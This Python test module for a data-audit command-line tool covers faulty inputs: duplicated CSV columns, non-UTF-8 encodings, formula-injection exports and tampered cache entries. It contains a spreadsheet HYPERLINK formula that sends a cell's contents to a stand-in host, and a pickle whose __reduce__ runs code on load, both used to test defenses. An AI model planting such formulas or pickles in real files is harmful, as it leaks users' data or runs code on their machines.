"""Data faults: tables with a repeated column or in an encoding other than UTF-8, report texts in UTF-16,
exports of text that spreadsheets would run, and entries planted in or damaged in the validated-tables cache.

What exit code and message cannot show (a workbook cell's type, a marker file a planted pickle would make)
is tested in tests/test_export.py and tests/test_tables.py.
"""

from __future__ import annotations

import pickle
import sys
from pathlib import Path

from tests.faults.cases import AUDIT, BAD, FACTS, FINDINGS, VALIDATE, Fault, _rows, _write, cell, raw, scratch_file

FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
LOCATOR = "本市下放的401項管理權限中"  # data/facts.csv row 54, dongying_powers_delegated


def repeat_column(table: str, column: str, times: int = 2):
    """``column`` again at the end of the header, its cells other values than the first one's."""
    def mutate(data: Path, tmp: Path) -> None:
        rows = _rows(data / f"{table}.csv")
        _write(data / f"{table}.csv", [rows[0] + [column] * (times - 1)] + [r + ["other"] * (times - 1) for r in rows[1:]])
    return mutate


def _entry_path(data: Path) -> Path:
    from analysis.tables import _cache_dir, _content_key

    return _cache_dir() / f"tables-{_content_key(data.resolve())}.arrow"


class _Exits:
    """A pickle that, if a cache ever loaded it, would end the command with this message instead of its output."""

    def __reduce__(self):
        return (sys.exit, ("a planted cache entry ran",))


def planted_pickle(data: Path, tmp: Path) -> None:
    """A pickle under the name of the tables' cache entry, now and as the pickle cache named it."""
    entry = _entry_path(data)
    entry.parent.mkdir(parents=True, exist_ok=True)
    for path in (entry, entry.with_suffix(".pickle")):
        path.write_bytes(pickle.dumps(_Exits()))


def cached_then(damage):
    """Fill the cache with the tables, then ``damage`` its entry's bytes."""
    def mutate(data: Path, tmp: Path) -> None:
        from analysis.tables import _load_cached, load_tables

        load_tables(data)
        _load_cached.cache_clear()  # the next command reads the entry from disk
        entry = _entry_path(data)
        entry.write_bytes(damage(entry.read_bytes()))
    return mutate


NOT_GBK = r"^(?![\s\S]*GBK)"  # at the start of the output: the word GBK appears nowhere in it
TABLES_REREAD = ("--data-dir", "{data}", "facts", "--csv", "--county", "dongying")

CASES = [
    # headers
    Fault("data-facts-column-twice", repeat_column("facts", "unit"), VALIDATE, BAD,
          rf"{FACTS}, row 1: column 'unit' appears twice; keep one of them"),
    Fault("data-findings-column-twice", repeat_column("findings", "claimed"), AUDIT, BAD,
          rf"{FINDINGS}, row 1: column 'claimed' appears twice"),
    Fault("data-counties-column-three-times", repeat_column("counties", "name_en", 3), VALIDATE, BAD,
          r"data/counties.csv, row 1: column 'name_en' appears 3 times"),
    # encodings
    Fault("data-facts-utf16-le", raw("facts", lambda b: b"\xff\xfe" + b.decode("utf-8").encode("utf-16-le")),
          VALIDATE, BAD, rf"{FACTS}: the file is UTF-16 \(little-endian\), not UTF-8; save it as UTF-8"),
    Fault("data-findings-utf16-be", raw("findings", lambda b: b"\xfe\xff" + b.decode("utf-8").encode("utf-16-be")),
          AUDIT, BAD, rf"{FINDINGS}: the file is UTF-16 \(big-endian\), not UTF-8"),
    Fault("data-counties-utf16-le-without-bom", raw("counties", lambda b: b.decode("utf-8").encode("utf-16-le")),
          VALIDATE, BAD, r"data/counties.csv: the file is UTF-16 \(little-endian\)"),
    Fault("data-counties-latin1-cell", raw("counties", lambda b: b.replace(b"Dongying,", "Dongying Café,".encode("latin-1"), 1)),
          VALIDATE, BAD, NOT_GBK + r"[\s\S]*data/counties.csv, row \d+: not UTF-8 \(byte 0xe9\), nor GB18030; save the file as UTF-8"),
    Fault("data-facts-gbk-said-to-read-as-gb18030", raw("facts", lambda b: b.decode("utf-8").encode("gbk", errors="replace")),
          VALIDATE, BAD, rf"{FACTS}, row 2: not UTF-8 \(byte 0x[0-9a-f]+\); it reads as GB18030 \(GBK\)"),
    Fault("data-extract-utf16-le", scratch_file("u16.txt", "全镇共有12个村。\n".encode("utf-16")), ("extract", "{tmp}/u16.txt"),
          BAD, r"u16.txt: UTF-16 text \(little-endian\), not UTF-8; save it as UTF-8"),
    Fault("data-extract-utf16-be-without-bom", scratch_file("u16be.txt", "全镇共有12个村。\n".encode("utf-16-be")),
          ("extract", "{tmp}/u16be.txt"), BAD, r"u16be.txt: UTF-16 text \(big-endian\)"),
    Fault("data-extract-latin1", scratch_file("latin.txt", "Café, 12 villages.\n".encode("latin-1")), ("extract", "{tmp}/latin.txt"),
          BAD, NOT_GBK + r"[\s\S]*latin.txt: neither UTF-8 nor GB18030"),
    # exports: text as data (the workbook's cell types are checked in tests/test_export.py)
    Fault("data-export-xlsx-with-a-formula", cell("facts", 2, "note", FORMULA), ("--data-dir", "{data}", "export", "--format", "xlsx",
          "--out", "{tmp}/x"), 0, r"x/township-reform-audit.xlsx"),
    Fault("data-export-csv-spreadsheet-safe", cell("facts", 2, "note", FORMULA), ("--data-dir", "{data}", "export", "--format", "csv",
          "--spreadsheet-safe", "--out", "{tmp}/c"), 0, r"c/facts.csv"),
    Fault("data-export-spreadsheet-safe-not-csv", None, ("--data-dir", "{data}", "export", "--format", "dta", "--spreadsheet-safe",
          "--out", "{out}"), 2, r"argument --spreadsheet-safe: for --format csv only \(dta keeps text as text\)"),
    # the validated-tables cache: data only, a bad entry a miss
    Fault("data-cache-planted-pickle", planted_pickle, VALIDATE, 0, r"validate: OK"),
    Fault("data-cache-entry-edited", cached_then(lambda b: b.replace(LOCATOR.encode(), "本市下放的410項管理權限中".encode())),
          TABLES_REREAD, 0, LOCATOR),
    Fault("data-cache-entry-truncated", cached_then(lambda b: b[: len(b) // 3]), TABLES_REREAD, 0, LOCATOR),
    Fault("data-cache-entry-garbage", cached_then(lambda b: bytes(range(256)) * 40), VALIDATE, 0, r"validate: OK"),
]
